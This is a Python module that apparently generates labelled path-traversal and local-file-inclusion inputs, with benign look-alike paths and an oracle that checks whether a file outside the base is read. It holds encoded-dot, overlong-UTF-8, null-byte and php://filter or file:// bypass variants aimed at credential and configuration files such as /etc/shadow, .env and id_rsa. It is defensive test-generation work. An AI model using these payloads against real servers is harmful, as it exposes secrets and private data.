"""Paths, resolved as file systems do it after the decodings that applications do: a file outside of the base is read."""

import posixpath
import urllib.parse

NAME = "paths"
SAMPLED = 1

TEMPLATES = (
    ("joined", "/srv/app/public/files/"),
    ("decoded-again", "/srv/app/public/files/"),
    ("windows", "/srv/app/public/files/"),
    ("stripped-once", "/srv/app/public/files/"),
    ("absolute", ""),
    ("suffix-cut", "/srv/app/public/files/"),
    ("stream", ""),
    ("decoded-twice", "/srv/app/public/files/"),
    ("semicolon-cut", "/srv/app/public/files/"),
    ("overlong", "/srv/app/public/files/"),
)

SECRETS = (
    "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/proc/self/environ", "/proc/version", "/proc/self/cmdline", "/etc/hostname",
    "/srv/app/.env", "/srv/app/config.php", "/srv/app/wp-config.php", "/srv/app/.git/config", "/srv/app/web-inf/web.xml", "/srv/app/config/database.yml",
    "/srv/app/settings.py", "/srv/app/package.json", "/srv/app/public/.htaccess", "/srv/app/web.config", "/srv/app/public/index.php",
    "/windows/win.ini", "/boot.ini", "/windows/system32/drivers/etc/hosts", "/var/log/auth.log", "/var/log/nginx/access.log", "/etc/ssh/sshd_config",
    "/srv/app/.ssh/id_rsa", "/etc/nginx/nginx.conf", "/etc/mysql/my.cnf", "/srv/app/config/secrets.json", "/var/www/html/index.php", "/etc/issue",
    "/srv/app/application.properties", "/etc/crontab", "/usr/local/etc/php/php.ini", "/var/lib/mysql/app/users.ibd", "/opt/data/customers.csv",
    "/srv/app/data/users.db", "/srv/other/readme.txt", "/srv/app/logs/app.log", "/srv/app/templates/admin.html",
)  # fmt: skip
KNOWN = frozenset(SECRETS)
ACCOUNTS = SECRETS[:4]


def relative(c, secret):
    """The path from the base, with more steps upwards than needed or none too many."""
    steps = ["..", "..", "..", ".."]
    rest = secret
    if secret.startswith("/srv/app/public/"):
        steps, rest = [".."], secret[len("/srv/app/public") :]
    elif secret.startswith("/srv/app/"):
        steps, rest = ["..", ".."], secret[len("/srv/app") :]
    else:
        steps += [".."] * c.below(5)
    parts = rest[1:].split("/")
    if c.rarely(4):
        steps.insert(c.below(len(steps)), c.of((".", "images", "")))
        if "images" in steps:
            steps.insert(steps.index("images") + 1, "..")
    return steps, parts


SEPARATORS = {
    "slash": "/", "backslash": "\\", "percent": "%2f", "percent-backslash": "%5c", "percent-twice": "%252f", "doubled": "//", "dot-between": "/./",
    "overlong": "%c0%af", "slash-backslash": "/\\", "backslashes": "\\\\", "overlong-three": "%e0%80%af", "overlong-bytes": "\udcc0\udcaf", "backslash-twice": "%255c",
}  # fmt: skip
DOTS = {
    "dots": "..", "percent-dots": "%2e%2e", "one-percent": ".%2e", "percent-twice-dots": "%252e%252e", "nested": "....//", "nested-inside": "..././",
    "nested-backslash": "....\\\\", "semicolon": "..;", "overlong-dots": "%c0%ae%c0%ae", "parameter": "..;a=b", "capital": "%2E%2E", "overlong-dot-bytes": "\udcc0\udcae\udcc0\udcae",
}  # fmt: skip
SCHEMES = (
    "file://", "php://filter/convert.base64-encode/resource=", "php://filter/read=string.rot13/resource=", "FILE://", "file:", "file://localhost",
    "php://filter/resource=", "local_file://", "netdoc:", "jar:file://", "view-source:file://", "compress.zlib://", "glob://", "phar://", "url:file://",
    "php://filter/zlib.deflate/convert.base64-encode/resource=", "PHP://FILTER/resource=", "fIle:///..",
)  # fmt: skip


def attack(c):
    at = c.below(len(TEMPLATES))
    template = TEMPLATES[at][0]
    secret = c.of(SECRETS)
    if template == "stream":
        c.tags.append("scheme")
        return at, c.of(SCHEMES) + secret + c.of(("", "", "?", "#x"))
    if template == "absolute":
        c.tags.append("file-of-accounts" if secret in ACCOUNTS else "file")
        form = c.of((secret, "//" + secret, secret.replace("/", "//"), "/." + secret, "C:" + secret.replace("/", "\\"), "c:" + secret, "/srv/.." + secret))
        return at, form
    separator, dots = c.tagged(SEPARATORS), c.tagged(DOTS)
    steps, parts = relative(c, secret)
    if steps.count("..") == 1:
        c.tags.append("one-step")
    text = ""
    for step in steps:
        piece = dots if step == ".." else step
        text += piece + ("" if piece.endswith(("//", "./", "\\\\")) else separator)
    text += c.of((separator, separator, "/")).join(parts)
    prefix = c.of(("", "", "./", "images/../", "tea.png/../", "/", ".\\", "x/../"))
    return at, prefix + text + c.of(("", "", "\0.png", "%00.png", "%00", "?.png", "#.png", "/.", ";.png", "\0", " "))


PROSE = (
    "../images/logo.png", "docs/../README.md", "and/or", "wait... what?", "C:\\Users\\Anna\\Documents\\report.docx", "see ../style.css",
    "1/2 cup", "etc/ and so on", "...", "/usr/local", "file.tar.gz", "a..b", "images/2024/05/cat.jpg", "~/projects/app", "24/7 support...",
    "./run.sh", "/about/../contact", "\\\\server\\share\\report.xlsx", "n/a", "file name with .. dots", "https://example.com/a/../b", "src/main.rs:40",
    "../../assets/fonts/font.woff2", "import x from '../../lib/x'", "config/app.yml", "index.php", "/etc is a folder of configuration", "web.config",
)  # fmt: skip


def honest(c):
    if c.rarely(2):
        return c.of(PROSE) + c.of(("", "", "?v=2", " (new)", "#top", " - copy"))
    parts = [c.of(("..", "images", "docs", "css", ".", "assets", "lib", "..", "2024", "a b")) for _ in range(1 + c.below(5))]
    return c.of(("", "/", "./", "../")) + c.of(("/", "\\", "/")).join(parts) + c.of(("/logo.png", "/x.js", "/", "", "/read me.txt", "/index.html"))


def overlong(text):
    """Decodes two and three octets for an ASCII character, as old readers of UTF-8 do."""
    octets = urllib.parse.unquote_to_bytes(text.encode("utf-8", "surrogateescape"))
    for long, short in ((b"\xc0\xaf", b"/"), (b"\xe0\x80\xaf", b"/"), (b"\xc0\xae", b"."), (b"\xc1\x9c", b"\\"), (b"\xe0\x80\xae", b".")):
        octets = octets.replace(long, short)
    return octets.decode("latin-1")


class Oracle:
    works = True

    def effect(self, at, value):
        """Reads a file of the list that is outside of the base."""
        template, base = TEMPLATES[at]
        if template == "stream":
            return self.stream(value)
        text = value
        if template == "decoded-again":
            text = urllib.parse.unquote(text)
        if template == "decoded-twice":
            text = urllib.parse.unquote(urllib.parse.unquote(text))
        if template == "overlong":
            text = overlong(text)
        if template == "stripped-once":
            text = text.replace("../", "").replace("..\\", "")
        if template == "semicolon-cut":
            text = "/".join(part.split(";")[0] for part in text.split("/"))
        if template == "suffix-cut":
            text = text.split("\0")[0]
        elif "\0" in text:
            return None
        if template in ("windows", "absolute") and ("\\" in text or text[1:2] == ":"):
            text = text.replace("\\", "/")
            if text[1:2] == ":":
                text, base = text[2:], ""
            text = text.rstrip(". ") if template == "windows" else text
        if template == "absolute" and not text.startswith("/"):
            return None
        found = posixpath.normpath(base + text).lower() if base + text else ""
        found = "/" + found.lstrip("/")
        return f"{found} is read" if found in KNOWN else None

    def stream(self, value):
        scheme, colon, rest = value.partition(":")
        scheme = scheme.lower()
        if not colon or scheme not in ("file", "php", "local_file", "netdoc", "jar", "view-source", "compress.zlib", "glob", "phar", "url"):
            return None
        if scheme == "php":
            if not rest.lower().startswith("//filter") or "resource=" not in rest.lower():
                return None
            rest = rest[rest.lower().index("resource=") + 9 :]
        for inner in ("file:",):
            if rest.lower().startswith(inner):
                rest = rest[len(inner) :]
        rest = rest.split("?")[0].split("#")[0] if scheme != "php" else rest
        found = "/" + posixpath.normpath(rest.replace("//localhost/", "/")).lstrip("/").lower()
        return f"{found} is read" if found in KNOWN else None

    def close(self):
        pass
